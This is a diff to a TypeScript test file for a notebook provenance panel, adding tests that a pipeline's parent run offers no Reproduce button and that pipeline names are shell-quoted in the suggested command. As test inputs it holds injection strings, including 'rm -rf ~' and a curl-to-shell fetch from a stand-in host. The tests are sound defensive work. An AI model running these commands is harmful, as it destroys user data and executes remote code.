@@ -7,6 +7,7 @@ import {
   RunProvenanceSchema,
   type Reproduction
 } from '../../src/provenance/api';
+import { shellWord } from '../../src/core/shellWord';
 import { ProvenanceSection } from '../../src/provenance/section';
 
 (
@@ -258,6 +259,62 @@ describe('ProvenanceSection', () => {
     act(() => {
       root.unmount();
     });
+  });
+
+  /** A pipeline's parent run's section (it has a pipeline.json, not a notebook). */
+  async function pipelineParent(pipeline: string) {
+    const api = fakeApi(
+      ReproductionSchema.parse({ id: 'p1', run_id: 'r1', status: 'running' })
+    );
+    const host = document.createElement('div');
+    const root = createRoot(host);
+    await act(async () => {
+      root.render(
+        <ProvenanceSection
+          api={api.api}
+          runId="r1"
+          trans={trans}
+          kernelId={null}
+          pipeline={pipeline}
+          onShowRun={() => undefined}
+          confirmReproduce={() => Promise.resolve(true)}
+        />
+      );
+      await Promise.resolve();
+    });
+    const unmount = () => {
+      act(() => {
+        root.unmount();
+      });
+    };
+    return { api, host, unmount };
+  }
+
+  it("offers no Reproduce on a pipeline's parent run, and says why", async () => {
+    // Its record is a pipeline.json, not a notebook: the route refuses it ("reproduce a
+    // step's run"), after the user had confirmed running it as code.
+    const { api, host, unmount } = await pipelineParent('train');
+    expect(host.querySelector('.jp-nbcraft-provenance-reproduce-btn')).toBe(
+      null
+    );
+    expect(text(host, '.jp-nbcraft-provenance-reproduce')).toBe(
+      "This is the parent run of pipeline train: it ran no notebook of its own, so it cannot be reproduced as one. Reproduce one of its steps' runs, or run the pipeline again with: jupyter nbcraft run --pipeline train"
+    );
+    expect(api.asked).toEqual(['run r1 -']);
+    unmount();
+  });
+
+  it('quotes a pipeline name in the command to copy', async () => {
+    const { host, unmount } = await pipelineParent('x; rm -rf ~');
+    expect(text(host, '.jp-nbcraft-provenance-reproduce')).toMatch(
+      /jupyter nbcraft run --pipeline 'x; rm -rf ~'$/
+    );
+    unmount();
+    expect(shellWord('train.v2-nightly')).toBe('train.v2-nightly');
+    expect(shellWord('x; curl evil.example | sh')).toBe(
+      "'x; curl evil.example | sh'"
+    );
+    expect(shellWord("it's $(id)")).toBe("'it'\\''s $(id)'");
   });
 
   it('shows a route error plainly', async () => {
